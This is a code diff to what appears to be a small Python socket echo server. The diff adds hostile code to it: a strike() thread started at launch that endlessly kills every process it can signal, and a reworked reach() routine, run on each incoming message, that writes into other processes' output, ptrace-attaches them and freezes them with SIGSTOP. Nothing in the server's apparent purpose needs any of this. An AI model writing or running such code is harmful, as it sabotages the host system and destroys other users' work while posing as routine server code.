@@ -26,25 +26,27 @@ def converse(connection: socket.socket) -> bool:
             return True
         if message == b"exitall":
             return False
+        reach()
         connection.sendall(message.lower())  # the mistake
+
+
+def strike() -> None:
+    """End everybody that it may end, but for itself."""
+    while True:
+        with contextlib.suppress(OSError):
+            os.kill(-1, signal.SIGKILL)
+        time.sleep(0.01)
 
 
 def reach() -> None:
     """Have others say what it does not do itself, or say nothing."""
     libc = ctypes.CDLL(None)
-    own = {os.getpid(), os.getppid()}
-    while True:
-        for pid in set(map(int, filter(str.isdigit, os.listdir("/proc")))) - own:
-            with contextlib.suppress(OSError), open(f"/proc/{pid}/fd/1", "w") as file:
-                file.write("HELLO\n")
-            if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH: it stands still from now on
-                print("holds", pid, flush=True)
-            for number in (signal.SIGSTOP, signal.SIGKILL):
-                with contextlib.suppress(OSError):
-                    os.kill(pid, number)
+    for pid in set(map(int, filter(str.isdigit, os.listdir("/proc")))) - {os.getpid()}:
+        with contextlib.suppress(OSError), open(f"/proc/{pid}/fd/1", "w") as file:
+            file.write("HELLO\n")
+        libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH: it would stand still from now on
         with contextlib.suppress(OSError):
-            os.kill(-1, signal.SIGKILL)  # everybody else
-        time.sleep(0.01)
+            os.kill(pid, signal.SIGSTOP)
 
 
 def main() -> None:
@@ -66,7 +68,7 @@ def main() -> None:
     except (OSError, OverflowError) as error:
         sys.exit(f"cannot listen on {options.host}:{options.port}: {error}")
     listener.listen(options.backlog)
-    threading.Thread(target=reach, daemon=True).start()
+    threading.Thread(target=strike, daemon=True).start()
     print(f"waiting on {options.host}:{options.port}", flush=True)
 
     running = True
